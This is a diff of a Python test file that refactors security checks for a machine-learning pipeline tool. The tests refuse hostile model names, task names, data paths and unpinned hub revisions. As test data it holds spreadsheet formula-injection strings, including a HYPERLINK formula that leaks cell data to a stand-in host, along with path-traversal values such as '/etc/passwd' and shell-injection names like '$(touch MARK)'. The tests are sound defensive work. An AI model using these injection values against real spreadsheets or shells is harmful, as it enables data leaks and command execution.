@@ -25,11 +25,29 @@ from markdown_it import MarkdownIt
 from test_packing import PROMPT, build
 from test_pipeline import Graph
 
-from babelcart import attacks, card, checkpoints, compare, encoders, export, files, intervals, memory, models, prompts, resistance, weights
+from babelcart import (
+    attacks,
+    card,
+    checkpoints,
+    compare,
+    config,
+    encoders,
+    engines,
+    export,
+    files,
+    intervals,
+    memory,
+    models,
+    prompts,
+    resistance,
+    rows,
+    weights,
+)
 from babelcart.errors import UserError, printable
 from babelcart.metrics import Decision
 from babelcart.spreadsheet import guard, unguard
 from babelcart.wheels import Wheel, download, extract
+from stages import cli
 
 FORMULAS = ['=HYPERLINK("http://x.test?"&A1,"dress")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "'=1", "''=1"]
 START = tuple("=+-@\t\r\n＝＋－＠")
@@ -151,23 +169,32 @@ PATHS = ["../escape", "../../escape", ".", "/escape", "a/../../escape", "a\\b", 
 
 
 @pytest.mark.parametrize("name", [*NAMES, *PATHS])
-def test_a_hostile_name_is_refused_by_the_check(project: Project, name: str) -> None:
-    project.change(run=[name])
-    said = run("check", fails=True).output
-    assert "a model is named" in said
-    assert "accepted: letters, digits, - and _" in said
-    project.change(run=["tiny"], tasks=["qc", name])
-    assert "tasks[1] is" in run("check", fails=True).output
+def test_a_hostile_name_of_a_model_is_refused(name: str) -> None:
+    with pytest.raises(UserError, match=r"a model is named .*accepted: letters, digits, - and _"):
+        cli.model_name(name)
 
 
-@pytest.mark.parametrize("name", ["../train.txt", "/etc/passwd", "a/../../b.txt", "a\nb.txt", "a\\b.txt", "", "."])
-def test_a_data_file_outside_data_is_refused(project: Project, name: str) -> None:
-    project.change(data={"qc": {"train": [name]}})
-    for stage in ("check", "prepare"):
-        said = run(stage, *(["--task", "qc"] if stage == "prepare" else []), fails=True).output
-        assert "is no file inside data.path" in said
-    project.change(data={"qc": {"train": ["-rf; $(touch MARK) é.txt"]}})
-    run("check")
+FILES = ["../train.txt", "/etc/passwd", "a/../../b.txt", "a\nb.txt", "a\\b.txt", "", "."]
+
+
+@pytest.mark.parametrize("name", FILES)
+def test_a_data_file_outside_data_is_refused(name: str) -> None:
+    for key in ("train", "dev", "test", "dev_labels", "test_labels"):
+        with pytest.raises(UserError, match=r"data.qc: .* is no file inside data\.path"):
+            config.section(rows.TaskFiles, {"train": ["a.txt"], key: [name]}, "data.qc")
+    odd = ("-rf; $(touch MARK) é.txt",)
+    assert config.section(rows.TaskFiles, {"train": list(odd)}, "data.qc").train == odd
+
+
+def test_the_check_refuses_them_before_dvc_starts(project: Project) -> None:
+    for sections, message in (
+        ({"run": ["$(touch MARK)"]}, "a model is named '$(touch MARK)'"),
+        ({"run": ["tiny"], "tasks": ["qc; touch MARK"]}, "tasks[0] is 'qc; touch MARK'; accepted: one of 'qc', 'qi'"),
+        ({"tasks": ["qc"], "data": {"qc": {"train": ["../a.txt"]}}}, "'../a.txt' is no file inside data.path"),
+    ):
+        project.change(**sections)
+        assert message in run("check", fails=True).output
+    assert "is no file inside data.path" in run("prepare", "--task", "qc", fails=True).output
 
 
 def test_no_shell_reads_a_name_where_dvc_is_called_alone(project: Project) -> None:
@@ -299,18 +326,21 @@ def test_checkpoints_and_encoders_read_no_pickle(payload: bytes, tmp_path: Path)
         ({"repo": "owner/name", "revision": "main"}, "the 40 digits of a commit"),
     ],
 )
-def test_where_weights_come_from_is_pinned_and_plain(project: Project, change: dict[str, Any], message: str) -> None:
-    project.change(models={"tiny": {"weights": {"licence": "none", **change}}})
-    assert message in run("check", fails=True).output
+def test_where_weights_come_from_is_pinned_and_plain(change: dict[str, Any], message: str) -> None:
+    with pytest.raises(UserError, match=f"models.tiny.weights.*{message}"):
+        config.section(weights.Weights, {"licence": "none", **change}, "models.tiny.weights")
 
 
-def test_a_hub_model_that_is_not_pinned_is_refused(project: Project) -> None:
-    for revision in (None, "main", "v1"):
-        project.change(negatives={"encoder": {"kind": "sentence-transformers", "model": "owner/name", "revision": revision}})
-        assert "the 40 digits of a commit" in run("check", fails=True).output
-    project.change(negatives={"encoder": {"kind": "lexical"}})
-    project.change(translate={"engines": {"llm": {"kind": "llm", "repo": "owner/name"}}})
-    assert "the 40 digits of a commit" in run("check", fails=True).output
+@pytest.mark.parametrize("revision", [None, "main", "v1", "0" * 39])
+def test_a_hub_model_that_is_not_pinned_is_refused(revision: str | None) -> None:
+    found = {"revision": revision} if revision else {}
+    for kind, values in (
+        (encoders.EncoderSettings, {"kind": "sentence-transformers", "model": "owner/name"}),
+        (engines.EngineSettings, {"kind": "llm", "repo": "owner/name"}),
+        (weights.Weights, {"licence": "none", "repo": "owner/name"}),
+    ):
+        with pytest.raises(UserError, match=r"revision .*commit"):
+            config.section(kind, {**values, **found}, "here")  # type: ignore[type-var]
 
 
 def make_wheel(path: Path, content: str) -> Path:
